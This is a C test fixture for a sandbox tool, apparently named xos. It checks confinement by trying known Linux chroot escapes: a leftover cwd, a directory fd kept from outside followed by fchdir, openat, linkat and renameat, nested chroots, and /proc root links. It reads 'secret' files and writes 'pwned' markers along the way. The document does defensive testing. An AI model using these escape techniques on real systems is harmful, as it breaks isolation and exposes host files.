/* The chroot ways out (for test/confine.test.ts, which runs it under
 * `xos run --root DIR` and checks the host): Linux lets root leave a chroot
 * with a cwd or a directory fd kept outside it, then `..` up to the real root
 * and chroot there. Under xos that real root is DIR: whatever this program
 * does, it must neither read nor change anything beside DIR. It prints every
 * directory listing and file it reaches, and tries to create files
 * everywhere on the way up. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void cat(const char *path) {
    char buf[256] = {0};
    int fd = open(path, O_RDONLY);
    if (fd < 0) { printf("open %s: errno %d\n", path, errno); return; }
    int n = read(fd, buf, sizeof buf - 1);
    close(fd);
    printf("read %s: %d [%s]\n", path, n, n > 0 ? buf : "");
}
static void ls(const char *path) {
    DIR *d = opendir(path);
    if (!d) { printf("ls %s: errno %d\n", path, errno); return; }
    printf("ls %s:", path);
    struct dirent *e;
    while ((e = readdir(d))) printf(" %s", e->d_name);
    printf("\n");
    closedir(d);
}
static void touch(const char *path) {
    int fd = open(path, O_CREAT | O_WRONLY, 0644);
    printf("create %s: %s\n", path, fd >= 0 ? "made" : strerror(errno));
    if (fd >= 0) { write(fd, "pwned\n", 6); close(fd); }
}
static void up_and_look(const char *how) {
    char cwd[4096];
    for (int i = 0; i < 40; i++) chdir("..");
    printf("%s: cwd %s\n", how, getcwd(cwd, sizeof cwd) ? cwd : strerror(errno));
    ls(".");
    cat("secret");
    cat("../secret");
    cat("../../secret");
    cat("../../../../../../../../secret");
    touch("pwned-up");
    touch("../pwned-up");
    touch("../../../../../pwned-up");
}

int main(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    mkdir("/jail", 0755);
    mkdir("/jail/inner", 0755);

    /* 1: chroot without chdir, then `..` from the cwd left outside, then chroot "." */
    printf("chroot: %d\n", chroot("/jail"));
    up_and_look("left cwd");
    printf("chroot .: %d\n", chroot("."));
    up_and_look("after chroot .");
    cat("/secret");
    cat("/../secret");

    /* 2: a directory fd opened before a chroot, then fchdir */
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    printf("chroot inner: %d\n", chroot("/jail/inner"));
    chdir("/");
    printf("fchdir: %d\n", fchdir(outside));
    up_and_look("fchdir");
    int fd = openat(outside, "../../../secret", O_RDONLY);
    printf("openat outside ../../../secret: %d\n", fd);
    printf("linkat up: %d\n", linkat(outside, "../../secret", AT_FDCWD, "stolen", 0));
    printf("renameat up: %d\n", renameat(outside, "../../secret", AT_FDCWD, "stolen2"));

    /* 3: nested chroots to a deeper directory, and /proc inside */
    mkdir("jail/inner/deeper", 0755); /* the cwd is DIR: relative names */
    printf("chroot deeper: %d\n", chroot("jail/inner/deeper"));
    up_and_look("deeper");
    cat("/proc/self/root/../secret");
    cat("/proc/1/root/../secret");
    cat("/proc/self/cwd/../../secret");
    return 0;
}
